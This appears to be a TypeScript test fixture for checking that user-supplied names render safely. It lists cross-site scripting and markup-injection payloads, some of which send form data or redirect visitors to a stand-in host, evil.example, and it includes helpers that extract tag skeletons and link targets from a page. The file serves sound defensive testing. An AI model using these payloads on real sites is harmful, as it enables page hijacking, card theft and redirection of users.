/** What strangers may write where they are asked for a name: markup, and what ends a text to begin markup. */
export const hostileTexts: readonly string[] = [
  "<script>window.hacked = 1</script>",
  "</script><script>window.hacked=1</script>",
  "</title><script>window.hacked=1</script>",
  "<img src=x onerror=window.hacked=1>",
  '"><svg/onload=window.hacked=1>',
  "'><svg/onload=window.hacked=1>",
  '" onfocus="window.hacked=1" autofocus="',
  "' onmouseover='window.hacked=1' x='",
  "`onmouseover=window.hacked=1`",
  "';window.hacked=1//",
  "--><script>window.hacked=1</script><!--",
  "]]><script>window.hacked=1</script>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<a href=javascript:window.hacked=1>pay</a>",
  "<iframe srcdoc='<script>window.hacked=1</script>'>",
  "<form action=https://evil.example><input name=card>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "&lt;script&gt;window.hacked=1&lt;/script&gt;",
  "&#60;script&#62;window.hacked=1&#60;/script&#62;",
  "{{constructor.constructor('window.hacked=1')()}}",
  "javascript:window.hacked=1",
  "data:text/html,<script>window.hacked=1</script>",
  "$" + "{window.hacked=1} {merchant} $& $1",
  "\u2028window.hacked=1\u2029",
  "\u202Egnp.exe<b>",
  "<\u0000script>window.hacked=1</script>",
  "＜script＞window.hacked=1＜/script＞",
];

/** As long, with its spaces, and nothing that could be markup. */
export const harmless = (text: string) => text.replace(/[^\s]/gu, "x");

const tag = /<\/?[a-zA-Z][^\s/>]*(?:\s+[^\s=>/"']+(?:="[^"]*")?)*\s*\/?>/g;

/**
 * The tags of a page with the names of their attributes: what is the same for any text, unless a text is taken for
 * markup.
 * @throws Error where something that is no tag begins like one
 */
export function skeletonOf(html: string): string[] {
  const bare = html.replace(/<!--[\s\S]*?-->/g, "").replace(/^<!DOCTYPE[^>]*>/i, "");
  const left = bare.replace(tag, "");
  if (left.includes("<")) throw new Error(`No tag: ${left.slice(left.indexOf("<"), 80)}`);
  return (bare.match(tag) ?? []).map((found) => found.replace(/="[^"]*"/g, ""));
}

/** Where the links, forms and files of a page lead. */
export function targetsOf(html: string): string[] {
  const found = html.matchAll(/\s(?:href|src|action|formaction|srcset|poster|data)="([^"]*)"/g);
  return [...found].map(([, target = ""]) =>
    target.replaceAll("&#x27;", "'").replaceAll("&amp;", "&"),
  );
}
